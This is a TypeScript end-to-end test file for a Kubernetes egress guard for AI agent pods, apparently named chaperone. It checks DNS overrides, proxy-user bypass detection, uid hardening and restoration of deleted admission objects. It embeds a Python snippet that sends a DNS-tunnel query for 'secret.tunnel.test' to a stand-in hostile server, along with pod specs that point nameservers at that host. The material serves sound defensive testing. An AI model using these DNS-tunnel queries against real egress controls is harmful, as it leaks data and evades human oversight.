import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { eventually } from '../support/eventually.ts'
import {
  agentPod,
  CALLS,
  inAgent,
  inForce,
  leftFor,
  leftOutside,
  ours,
  running,
  startVendor,
  type Vendor,
} from './agents.ts'
import { AGENTS, install } from './installation.ts'
import { apply, get, kube, kubectl, refusalOf } from './kubectl.ts'
import { type NodeAccess, openNode } from './node-access.ts'

const GATEWAY = 'authors'
const ALLOWED = 'downloads.vendor.test'
/** A DNS server of the author, of which every packet is recorded as having left. */
const HOSTILE = '198.51.100.53'
let vendor: Vendor
let node: NodeAccess

beforeAll(async () => {
  await install(inject('installation'))
  vendor = await startVendor(GATEWAY, { egress: { allowedHosts: [ALLOWED] } })
  node = await openNode()
})
afterAll(async () => {
  await node?.[Symbol.asyncDispose]()
  await vendor?.[Symbol.asyncDispose]()
})

describe('DNS settings of a pod', () => {
  const SHAPES = {
    'dns-none': { dnsPolicy: 'None', dnsConfig: { nameservers: [HOSTILE], searches: ['evil.example'] } },
    'dns-added': { dnsConfig: { nameservers: [HOSTILE] } },
    'dns-default': { dnsPolicy: 'Default' },
    'dns-hosts': {
      hostAliases: [{ ip: '8.8.4.4', hostnames: [ALLOWED, 'chaperone-control-plane.chaperone-system.svc'] }],
    },
  }

  test('do not affect the proxy, and the agent’s questions end at the sidecar', async () => {
    const names = Object.keys(SHAPES)
    await apply(...Object.entries(SHAPES).map(([name, spec]) => agentPod(name, GATEWAY, { spec })))
    await running(...names)
    await inForce(GATEWAY)
    for (const name of names) {
      expect((await inAgent(name, CALLS.node('GET'))).stdout, name).toMatch(/^200/)
      await inAgent(name, ['curl', '-sSk', '-m', '4', `https://${ALLOWED}/x`])
      await inAgent(name, ['python3', '-c', askDirectly])
    }
    for (const name of names) expect((await leftOutside(name)) ?? [], name).toEqual([])
    expect((await leftFor([HOSTILE, '8.8.4.4'])) ?? []).toEqual([])
  })
})

describe('the user of an image', () => {
  test('that is the proxy’s is detected by its sockets; a running container without a uid keeps its image', async () => {
    await apply(agentPod('user', GATEWAY))
    await running('user')
    const [image, patched] = await Promise.all([
      kubectl(['-n', AGENTS, 'set', 'image', 'pod/user', 'agent=busybox']),
      kubectl([
        ...['-n', AGENTS, 'patch', 'pod', 'user', '--subresource=status', '--type=merge'],
        ...['-p', '{"metadata":{"labels":{"chaperone.dev/layer":null}}}'],
      ]),
    ])
    expect(image.stderr).toContain('set securityContext.runAsUser')
    expect(patched.stderr).toContain('metadata:')
    const possible = () => conditionOf('BypassPossible')
    await eventually(
      'BypassPossible',
      async () => ((await possible())?.reason === 'ImageUserUnknown' ? true : null),
      60_000,
    )
    expect((await conditionOf('BypassDetected'))?.status).toBe('False')
    // The node starts a process of the proxy's user in the network of the pod, as an image with this user would.
    await node.openSocketAsProxyUser('user')
    await eventually(
      'BypassDetected',
      async () => ((await conditionOf('BypassDetected'))?.reason === 'ProxyUserShared' ? true : null),
      60_000,
    )
    await kube(['delete', 'pod', 'user', '-n', AGENTS, '--wait=false'])
  })

  test('is a number in every container under hardening: strict', async () => {
    await apply(ours('Gateway', 'authors-strict', { hardening: 'strict' }))
    const nonRoot = { securityContext: { runAsNonRoot: true } }
    const refused = await refusalOf(agentPod('strict', 'authors-strict', { spec: nonRoot }))
    expect(refused).toContain('spec.containers[0].securityContext.runAsUser')
    const numeric = { securityContext: { runAsNonRoot: true, runAsUser: 1000 } }
    await apply(agentPod('strict', 'authors-strict', { spec: numeric }))
    await running('strict')
  })
})

test('deleted objects of the guard are back within 5 s, with an Event', async () => {
  const objects = [
    'mutatingwebhookconfiguration/chaperone-injector',
    'validatingadmissionpolicy/chaperone-pods',
    'validatingadmissionpolicybinding/chaperone-pods',
  ]
  const deletedAt = performance.now()
  await kube(['delete', ...objects])
  await kube(['delete', 'configmap/chaperone-control-plane-ca', '-n', AGENTS])
  await eventually(
    'the guard is back',
    async () => ((await kubectl(['get', ...objects])).code === 0 ? true : null),
    10_000,
  )
  await eventually(
    'the trust bundle is back',
    async () => (await get('configmap', 'chaperone-control-plane-ca', AGENTS)) ?? null,
    10_000,
  )
  expect(performance.now() - deletedAt).toBeLessThan(5_000)
  await eventually(
    'a governed pod is injected again',
    async () => {
      const { code, stdout } = await kubectl(
        ['create', '--dry-run=server', '-o', 'json', '-f', '-'],
        JSON.stringify(agentPod('again', GATEWAY)),
      )
      return code === 0 && stdout.includes('chaperone-proxy') ? true : null
    },
    10_000,
  )
  const events = await kube(['get', 'events', '-A', '--field-selector=reason=GuardDeleted', '-o', 'name'])
  expect(events.trim().split('\n').length).toBeGreaterThanOrEqual(4)
})

type Condition = { readonly type: string; readonly status: string; readonly reason: string }

async function conditionOf(type: string): Promise<Condition | undefined> {
  type Object = { readonly status?: { readonly conditions?: readonly Condition[] } }
  const found = await get<Object>('gateways.chaperone.dev', GATEWAY, AGENTS)
  return found?.status?.conditions?.find((one) => one.type === type)
}

/** Sends a query to a server of its own, over UDP and TCP. */
const askDirectly = `
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x06tunnel\\x04test\\x00\\x00\\x01\\x00\\x01'
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
  try:
    s = socket.socket(socket.AF_INET, kind); s.settimeout(2); s.connect(('${HOSTILE}', 53))
    s.sendall(q if kind == socket.SOCK_DGRAM else len(q).to_bytes(2, 'big') + q); print(s.recv(500))
  except Exception as e:
    print(e)
`
